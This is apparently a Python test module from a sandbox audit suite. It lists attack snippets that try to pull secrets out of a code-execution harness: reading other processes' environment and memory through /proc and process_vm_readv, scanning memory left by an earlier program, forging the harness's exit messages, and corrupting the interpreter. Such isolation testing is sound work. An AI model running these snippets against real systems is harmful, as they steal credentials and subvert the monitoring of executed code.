"""Attacks on secrets that lie in memory, in the environment, in inherited descriptors, or in an
earlier program.
"""

from audit.attack import Attack

# This earlier program has the secret in its code, its input, its output and its memory.
EARLIER = """
import sys
kept = ["@TOKEN@", sys.stdin.read(), dict(x="@TOKEN@")]
print("earlier", kept)
"""

SCAN = """
ends = os.pipe()
places = [id(object()), id(os), id([0] * 100000), id(bytearray(1 << 22)), id(None), id(sys.modules), id(find.__code__)]
places += [ctypes.addressof(ctypes.create_string_buffer(9999)), ctypes.cast(libc.getpid, ctypes.c_void_p).value]
blocks = {block for place in places for block in range((place >> 16) - 256, (place >> 16) + 256)}
for block in sorted(blocks):
    for start, length in ((block << 16, 65536),) if block > 0 else ():
        count = libc.write(ends[1], ctypes.c_void_p(start), length)  # EFAULT where nothing is mapped
        if count > 0: find(os.read(ends[0], count))
"""

SECRETS = (
    Attack(
        "environment",
        "variables of the harness, as Python, as the C library and as the kernel have them",
        """
libc.getenv.restype = ctypes.c_char_p
print(os.environ, libc.getenv(b"DECOY_SECRET"))
for p in ("self", HOST, PARENT, 1): quietly(lambda: find(open(f"/proc/{p}/environ", "rb").read()))
for at in quietly(lambda: ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")) or []:
    if at is None: break
    find(at)
""",
    ),
    Attack(
        "inherited descriptors",
        "reading every descriptor that the harness had open",
        """
for fd in range(3, 4096):
    quietly(lambda: find(os.pread(fd, 4096, 0)))
    quietly(lambda: won(os.fstat(fd) is not None))
""",
    ),
    Attack(
        "descriptors by /proc",
        "reopening descriptors of the program, the fork server and the harness",
        """
for p in ("self", HOST, PARENT):
    for fd in range(3, 64): quietly(lambda: find(open(f"/proc/{p}/fd/{fd}", "rb").read(4096)))
""",
    ),
    Attack(
        "memory of others",
        "/proc/PID/mem of the harness, the fork server, another process",
        """
for p in (int("@VICTIM@"), PARENT, HOST):
    for line in quietly(lambda: open(f"/proc/{p}/maps").readlines()) or []:
        span, mode = line.split()[:2]; low, high = (int(x, 16) for x in span.split("-"))
        if mode.startswith("rw") and high - low < 1 << 26:
            quietly(lambda: find(os.pread(os.open(f"/proc/{p}/mem", 0), high - low, low)))
""",
    ),
    Attack(
        "process_vm_readv",
        "memory of others by a system call; EFAULT would mean that only the address was wrong",
        """
buffer = ctypes.create_string_buffer(64); near = struct.pack("PN", ctypes.addressof(buffer), 64)
far = struct.pack("PN", id(os), 16)
def copy(x86, arm, pid):
    ctypes.set_errno(0)
    return call(x86, arm, pid, near, 1, far, 1, 0) > 0 or ctypes.get_errno() == 14
granted(*[lambda p=p: copy(310, 270, p) for p in (HOST, PARENT, int("@VICTIM@"))])
""",
    ),
    Attack(
        "own memory file",
        "/proc/self: memory, maps, environment",
        """
granted(lambda: os.open("/proc/self/mem", os.O_RDWR), lambda: open("/proc/self/maps").read(),
        lambda: open("/proc/thread-self/mem", "rb"), lambda: os.listdir("/proc/self/fd"))
""",
    ),
    Attack(
        "advice and comparison on others",
        "process_madvise, kcmp, move_pages, get_mempolicy",
        """
granted(lambda: call(440, 440, call(434, 434, PARENT, 0), struct.pack("PN", 0, 0), 0, 20, 0),
        lambda: call(312, 272, os.getpid(), PARENT, 0, 0, 0), lambda: call(279, 239, PARENT, 0, 0, 0, 0, 0))
""",
    ),
)

LEFT = (
    Attack(
        "objects of an earlier program",
        "all objects, frames, arguments and modules in reach",
        """
import gc
seen = repr(gc.get_objects()) + repr(sys.argv) + repr(sys.modules); frame = sys._getframe()
while frame: seen += repr(frame.f_locals) + repr(frame.f_globals); frame = frame.f_back
for module in list(sys.modules.values()): seen += repr(getattr(module, "__dict__", ""))
find(seen.encode("utf-8", "replace"))
""",
        before=EARLIER,
    ),
    Attack(
        "memory of an earlier program", "a search of the program's own memory", SCAN, before=EARLIER
    ),
    Attack(
        "fresh memory",
        "what allocations hold before they are written",
        """
libc.malloc.restype = ctypes.c_void_p
for size in (1 << 10, 1 << 14, 1 << 18, 1 << 22):
    for _ in range(8): find(ctypes.string_at(libc.malloc(ctypes.c_size_t(size)), size))
""",
        before=EARLIER,
    ),
    Attack(
        "output of an earlier program",
        "standard output and input, read from their beginning",
        """
for fd in (0, 1, 2):
    quietly(lambda: find(os.pread(fd, 1 << 20, 0)))
    quietly(lambda: find(os.read(fd, 1 << 20)))
""",
        before=EARLIER,
    ),
    Attack(
        "queues and segments",
        "shared memory, semaphores, message queues: they outlive the program",
        """
def shared(): i = call(29, 194, 0, 4096, 0o1600); won(i >= 0); return call(31, 195, i, 0, 0)
def messages(): i = call(68, 186, 0, 0o1600); won(i >= 0); return call(71, 187, i, 0, 0)
def semaphores(): i = call(64, 190, 0, 1, 0o1600); won(i >= 0); return call(66, 191, i, 0, 0)
def queue(): i = call(240, 180, b"@NAME@", 0o102, 0o600, 0); won(i >= 0); return call(241, 181, b"@NAME@")
for work in (shared, messages, semaphores, queue): quietly(work)
""",
    ),
    Attack(
        "keyrings",
        "keys of the user, which the next program could read",
        """
granted(lambda: call(248, 217, b"user", b"@NAME@", b"x", 1, -2), lambda: call(250, 219, 0, -3, 1),
        lambda: call(249, 218, b"user", b"@NAME@", 0, 0) if ctypes.get_errno() != 38 else -1)
""",
    ),
    Attack(
        "patched modules",
        "builtins and modules changed for the next program",
        """
import builtins, math, gc
builtins.left = math.left = 1
builtins.print = lambda *a, **k: None; math.prod = len; str.join
for module in list(sys.modules.values()):
    if getattr(module, "__name__", "").startswith("gspo"): vars(module).clear()
""",
    ),
    Attack(
        "interpreter overwritten",
        "every object cleared, the frames of the harness's code emptied, Python's own types overwritten",
        """
import gc
frame = sys._getframe().f_back
while frame: frame.f_globals.clear(); frame = frame.f_back
for thing in gc.get_objects():
    if isinstance(thing, (dict, list, set)) and thing is not globals(): quietly(thing.clear)
ctypes.memset(id(type), 0, 400)
""",
    ),
    Attack(
        "forge messages",
        "frames of the harness's own protocol on every descriptor",
        """
import json
for fd in range(3, 1024):
    for message in ({"why": "exit", "status": 0, "cpu": 0, "memory_mb": 0, "waited": False}, {"compiled": True}):
        data = json.dumps(message).encode()
        for frame in (data + b"\\n", struct.pack(">I", len(data)) + data): quietly(lambda: won(os.write(fd, frame) > 0))
""",
    ),
    Attack(
        "return into the server",
        "an end that does not end: the program goes back into the code that started it",
        """
import atexit, threading
os._exit = sys.exit = lambda *a: None; threading._shutdown = lambda: None
here = os.getpid()
def trace(frame, event, argument):
    if os.getpid() != here: won()
    return trace
sys.settrace(trace); threading.settrace(trace)
for frame in sys._current_frames().values():
    while frame: frame.f_trace = trace; frame = frame.f_back
sys.stdout.flush = lambda: (_ for _ in ()).throw(KeyboardInterrupt)
""",
    ),
)
MEMORY = SECRETS + LEFT
